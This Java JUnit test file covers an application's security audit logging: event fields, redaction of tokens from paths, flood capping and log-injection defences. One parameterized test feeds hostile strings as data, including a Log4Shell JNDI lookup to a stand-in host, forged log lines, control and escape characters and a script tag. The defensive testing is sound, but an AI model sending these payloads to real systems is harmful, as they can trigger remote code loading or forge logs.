package io.howdah.security;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.howdah.testing.Docs;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;
import org.apache.logging.log4j.LogManager;
import org.apache.logging.log4j.core.LogEvent;
import org.apache.logging.log4j.core.Logger;
import org.apache.logging.log4j.core.LoggerContext;
import org.apache.logging.log4j.core.appender.AbstractAppender;
import org.apache.logging.log4j.core.config.AbstractConfiguration;
import org.apache.logging.log4j.core.config.ConfigurationFactory;
import org.apache.logging.log4j.core.config.Property;
import org.apache.logging.log4j.core.config.composite.CompositeConfiguration;
import org.apache.logging.log4j.core.layout.PatternLayout;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class AuditTest {

    private static final Logger LOGGER = (Logger) LogManager.getLogger("io.howdah.audit");

    private final List<LogEvent> events = Collections.synchronizedList(new ArrayList<>());
    private final AtomicLong nanos = new AtomicLong();
    private final Audit audit = new Audit(true, nanos::get);
    private final AbstractAppender appender = new AbstractAppender("events", null, null, true, Property.EMPTY_ARRAY) {
        @Override
        public void append(LogEvent event) {
            events.add(event.toImmutable());
        }
    };

    @BeforeEach
    void addAppender() {
        appender.start();
        LOGGER.addAppender(appender);
        LOGGER.setAdditive(false);
    }

    @AfterEach
    void removeAppender() {
        LOGGER.setAdditive(true);
        LOGGER.removeAppender(appender);
    }

    @Test
    void eachEventHasItsKeyValues() {
        // When
        audit.authenticationFailed(AuthenticationException.Reason.NOT_YET_VALID, "192.0.2.1", "POST", "/graphql");
        audit.originRefused("https://evil.example", "192.0.2.1", "/notifications/rides");
        audit.rateLimited("alice", "192.0.2.1", "/graphql");
        audit.rateLimited("", "192.0.2.1", "/graphql");
        audit.adminRefused("alice", "192.0.2.1", "POST", "/admin/dead-letters/search");
        audit.adminAction("root", "192.0.2.1", "POST", "/admin/models/Ride/resume", 200);
        audit.revoked("subject", "alice", "root");
        audit.loggedOut("provider", "alice", "s-1", "192.0.2.1");
        audit.connections("listed", "", 7, "root");
        audit.connections("closed", "subject=alice", 2, "root");
        audit.loggedOut("client", "alice", "", "192.0.2.1");

        // Then
        assertThat(events)
                .extracting(event -> event.getLevel() + " " + event.getMessage().getFormattedMessage() + " "
                        + new TreeMap<>(event.getContextData().toMap()))
                .containsExactly(
                        "WARN Authentication failed {event=authentication-failed, method=POST, path=/graphql,"
                                + " reason=not_yet_valid, remote=192.0.2.1}",
                        "WARN Origin refused {event=origin-refused, origin=https://evil.example,"
                                + " path=/notifications/rides, remote=192.0.2.1}",
                        "WARN Rate limited {event=rate-limited, path=/graphql, remote=192.0.2.1, subject=alice}",
                        "WARN Rate limited {event=rate-limited, path=/graphql, remote=192.0.2.1}",
                        "WARN Admin refused {event=admin-refused, method=POST, path=/admin/dead-letters/search,"
                                + " remote=192.0.2.1, subject=alice}",
                        "INFO Admin action {event=admin-action, method=POST, path=/admin/models/Ride/resume,"
                                + " remote=192.0.2.1, status=200, subject=root}",
                        "INFO Revoked {by=root, event=revoked, id=alice, kind=subject}",
                        "INFO Logged out {by=provider, event=logged-out, remote=192.0.2.1, session=s-1, subject=alice}",
                        "INFO Connections listed {by=root, event=connections-listed, number=7}",
                        "INFO Connections closed {by=root, event=connections-closed, filter=subject=alice, number=2}",
                        "INFO Logged out {by=client, event=logged-out, remote=192.0.2.1, subject=alice}");
    }

    @Test
    void authenticationIsLoggedOncePerTokenAndAddress() {
        // Given
        Session session = new Session(Principal.of("alice"), Instant.EPOCH, Optional.empty(), "t-1");

        // When
        for (int i = 0; i < 100; i++) {
            audit.authenticated(session, "192.0.2.1", "GET", "/api/rides?since=x");
        }
        audit.authenticated(session, "192.0.2.2", "GET", "/api/rides");
        audit.authenticated(
                new Session(Principal.of("alice"), Instant.EPOCH, Optional.empty(), "t-2"),
                "192.0.2.1",
                "POST",
                "/graphql");
        audit.authenticated(Session.of(Principal.ANONYMOUS), "192.0.2.1", "GET", "/api/rides");
        audit.ticketIssued("alice", "192.0.2.1", "cookie", "/notifications/rides?a=b");

        // Then
        assertThat(events)
                .extracting(event -> event.getLevel() + " " + event.getMessage().getFormattedMessage() + " "
                        + new TreeMap<>(event.getContextData().toMap()))
                .containsExactly(
                        "INFO Authenticated {event=authenticated, method=GET, path=/api/rides, remote=192.0.2.1,"
                                + " subject=alice}",
                        "INFO Authenticated {event=authenticated, method=GET, path=/api/rides, remote=192.0.2.2,"
                                + " subject=alice}",
                        "INFO Authenticated {event=authenticated, method=POST, path=/graphql, remote=192.0.2.1,"
                                + " subject=alice}",
                        "INFO Ticket issued {event=ticket-issued, kind=cookie, path=/notifications/rides,"
                                + " remote=192.0.2.1, subject=alice}");

        // When
        nanos.addAndGet(Audit.AUTHENTICATED_AGAIN.toNanos() + 1);
        audit.authenticated(session, "192.0.2.1", "GET", "/api/rides");

        // Then
        assertThat(events).hasSize(5);
    }

    @Test
    void successIsNotLoggedByDefault() {
        Audit quiet = new Audit();

        quiet.authenticated(
                new Session(Principal.of("alice"), Instant.EPOCH, Optional.empty(), "t-1"), "192.0.2.1", "GET", "/");
        quiet.ticketIssued("alice", "192.0.2.1", "ticket", "/notifications/rides");

        assertThat(events).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/a?token=s3cret", "/a#s3cret", "/a;token=s3cret", "/a?\ns3cret"})
    void parametersOfAPathAreRemoved(String path) {
        audit.originRefused("null", "192.0.2.1", path);

        assertThat(event(0)).containsEntry("path", "/a");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a\nWARN Admin action {event=admin-action}",
                "a\r\nb",
                "a\u2028b",
                "a\u0085b",
                "a\u202eb",
                "a\u001b[2Jb",
                "a, subject=root",
                "a}, {b",
                "${jndi:ldap://evil.example/a}",
                "a\"b\\",
                "<script>",
                "\ud800"
            })
    void textOfAClientStartsNoLineAndNoKey(String text) {
        // When
        audit.rateLimited(text, text, text);

        // Then
        String line = PatternLayout.newBuilder().withPattern("%m %X").build().toSerializable(events.get(0));
        assertThat(line)
                .matches("Rate limited \\{event=rate-limited, path=[^ {}\"\\\\\\p{Cntrl}<>]*,"
                        + " remote=[^ {}\"\\\\\\p{Cntrl}<>]*, subject=[^ {}\"\\\\\\p{Cntrl}<>]*}");
        assertThat(line.codePoints())
                .noneMatch(point -> Character.getType(point) == Character.FORMAT
                        || Character.getType(point) == Character.LINE_SEPARATOR
                        || Character.getType(point) == Character.SURROGATE
                        || Character.isISOControl(point));
    }

    @Test
    void namesOfAnyScriptStayReadableAndLongTextIsCut() {
        audit.rateLimited("José.Łukasz@例え", "192.0.2.1", "/" + "a".repeat(100_000));

        assertThat(event(0)).containsEntry("subject", "José.Łukasz@例え");
        assertThat(event(0).get("path")).hasSize(AuditText.MAX_LENGTH + 3).endsWith("a...");
    }

    @Test
    void floodIsCutAndCounted() {
        // Given
        SimpleMeterRegistry meters = new SimpleMeterRegistry();
        audit.bindTo(meters);

        // When
        for (int i = 0; i < 1000; i++) {
            audit.rateLimited("alice", "192.0.2.1", "/graphql");
        }

        // Then
        assertThat(events).hasSize(AuditBurst.MAX);
        assertThat(meters.get("howdah.audit.events")
                        .tag("event", "rate-limited")
                        .functionCounter()
                        .count())
                .isEqualTo(1000);
        assertThat(meters.get("howdah.audit.left.out")
                        .tag("event", "rate-limited")
                        .functionCounter()
                        .count())
                .isEqualTo(1000 - AuditBurst.MAX);

        // When
        nanos.addAndGet(TimeUnit.SECONDS.toNanos(1));
        for (int i = 0; i < 1000; i++) {
            audit.rateLimited("alice", "192.0.2.1", "/graphql");
        }

        // Then
        assertThat(events).hasSize(AuditBurst.MAX + AuditBurst.PER_SECOND);
        assertThat(event(AuditBurst.MAX)).containsEntry("leftOut", "900");
        assertThat(event(AuditBurst.MAX + 1)).doesNotContainKey("leftOut");
    }

    @Test
    void floodHidesNeitherOtherRefusalsNorActionsOfOperators() {
        for (int i = 0; i < 1000; i++) {
            audit.rateLimited("alice", "192.0.2.1", "/graphql");
            audit.adminAction("root", "192.0.2.1", "POST", "/admin/x", 200);
        }
        audit.originRefused("null", "192.0.2.1", "/");

        assertThat(events).hasSize(AuditBurst.MAX + 1000 + 1);
    }

    @Test
    void documentedConfigurationWritesTheAuditLogAsJsonIntoItsOwnFile(@TempDir Path folder) throws IOException {
        // Given
        Path file = folder.resolve("audit.properties");
        Files.writeString(
                file,
                Docs.block("docs/monitoring.md", "properties", "appender.audit")
                        .text()
                        .replace("/var/log/howdah", folder.toString()));
        LoggerContext context = new LoggerContext("audit");
        CompositeConfiguration configuration = new CompositeConfiguration(
                List.of(read(context, Path.of("src/main/resources/log4j2.properties")), read(context, file)));

        // When
        audit.rateLimited("alice \"root\"", "192.0.2.1", "/graphql?a=b");
        context.start(configuration);
        configuration.getLoggerConfig("io.howdah.audit").log(events.get(0));
        boolean alone = !configuration.getLoggerConfig("io.howdah.audit").isAdditive();
        context.stop();

        // Then
        List<String> lines = Files.readAllLines(folder.resolve("audit.log"));
        assertThat(lines).hasSize(1);
        JsonNode line = new ObjectMapper().readTree(lines.get(0));
        assertThat(line.at("/context/event").asText()).isEqualTo("rate-limited");
        assertThat(line.at("/context/subject").asText()).isEqualTo("alice%20%22root%22");
        assertThat(line.at("/context/remote").asText()).isEqualTo("192.0.2.1");
        assertThat(line.at("/context/path").asText()).isEqualTo("/graphql");
        assertThat(line.path("time").asText()).matches("[-0-9T:.]+Z");
        assertThat(alone).isTrue();
    }

    @Test
    void levelOfTheRootLoggerDoesNotSilenceTheAuditLog() {
        LoggerContext context = new LoggerContext("audit");
        AbstractConfiguration configuration = read(context, Path.of("src/main/resources/log4j2.properties"));
        configuration.initialize();

        assertThat(configuration.getLoggerConfig("io.howdah.audit").getName()).isEqualTo("io.howdah.audit");
        assertThat(configuration.getLoggerConfig("io.howdah.audit").getLevel()).hasToString("INFO");
    }

    private static AbstractConfiguration read(LoggerContext context, Path file) {
        return (AbstractConfiguration)
                ConfigurationFactory.getInstance().getConfiguration(context, "audit", file.toUri());
    }

    private Map<String, String> event(int number) {
        return events.get(number).getContextData().toMap();
    }
}
